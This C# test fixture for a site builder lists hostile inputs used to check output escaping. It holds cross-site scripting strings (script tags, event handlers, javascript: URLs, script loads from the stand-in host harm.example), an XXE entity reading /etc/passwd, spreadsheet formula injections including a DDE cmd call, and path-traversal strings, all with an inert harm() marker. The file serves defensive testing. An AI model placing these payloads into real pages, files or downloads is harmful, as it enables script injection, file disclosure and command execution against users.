namespace SiteBuilder.Tests.Rendering;

/// <summary>What an attacker would write where text is expected. Each names <c>harm</c>, by which it is found again; none holds a line break.</summary>
internal static class HostilePayloads
{
    /// <summary>Would add an element or an attribute where it is not escaped for its place: element, attribute, script, comment, JSON, XML, template.</summary>
    public static readonly IReadOnlyList<string> Markup =
    [
        "<script>harm()</script>", "</script><script>harm()</script>", "<ScRiPt src=//harm.example></sCrIpT>", "<script/harm>harm()</script>",
        "<img src=x onerror=harm()>", "\"><img src=x onerror=harm()>", "'><img src=x onerror='harm()'>", "`><img src=`x` onerror=harm()>",
        "<svg onload=harm()>", "<svg><script>harm()</script></svg>", "<svg><animate onbegin=harm() attributeName=x dur=1s>", "<math><mi xlink:href=javascript:harm()>甲</mi></math>",
        "\" onmouseover=harm() x=\"", "' onfocus=harm() autofocus '", "x onclick=harm()", "\" style=\"background:url(javascript:harm())",
        "<iframe src=javascript:harm()></iframe>", "<iframe srcdoc='<script>harm()</script>'>", "<object data=data:text/html,harm>", "<embed src=//harm.example>",
        "<base href=//harm.example/>", "<meta http-equiv=refresh content='0;url=//harm.example'>", "<link rel=stylesheet href=//harm.example>", "<style>@import'//harm.example'</style>",
        "<form action=//harm.example><input type=submit>", "<button formaction=javascript:harm()>甲</button>", "<details open ontoggle=harm()>", "<video><source onerror=harm()></video>",
        "<body onload=harm()>", "</title><script>harm()</script>", "</textarea><script>harm()</script>", "</style><script>harm()</script>", "</noscript><script>harm()</script>",
        "--><script>harm()</script><!--", "<!--><script>harm()</script>-->", "]]><script>harm()</script><![CDATA[", "<?harm echo?>", "<!DOCTYPE harm [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        "&lt;script&gt;harm()&lt;/script&gt;", "&#60;script&#62;harm()&#60;/script&#62;", "\\u003cscript\\u003eharm()\\u003c/script\\u003e", "\"},\"harm\":{\"x\":\"", "\\\"};harm();//", "';harm();//", "${harm()}", "`+harm()+`",
        "[甲](javascript:harm())", "![甲](javascript:harm())", "<javascript:harm()>", "[甲](data:text/html;base64,harm)", "[甲](//harm.example)", "[甲](x \"y\\\" onclick=harm() z=\\\"\")",
        "javascript:harm()", "＜script＞harm()＜/script＞", "<harm-element harm=1>", "<a href=javascript:harm()>甲</a>",
    ];

    /// <summary>Would be computed by a spreadsheet that opens the download.</summary>
    public static readonly IReadOnlyList<string> Formulas =
    [
        "=harm()", "+harm()", "-harm()", "@harm()", "=cmd|'/c harm'!A1", "=HYPERLINK(\"//harm.example\")", "＝harm()", "＋harm()", "－harm()", "＠harm()",
    ];

    /// <summary>Would leave the folder where they become a path.</summary>
    public static readonly IReadOnlyList<string> Paths =
    [
        "../harm", "../../../../harm", "..\\..\\harm", "/harm", "C:\\harm", "%2e%2e%2fharm", "....//harm", "harm/../../harm", "file:///harm", "..%c0%afharm",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Markup, .. Formulas, .. Paths];
}
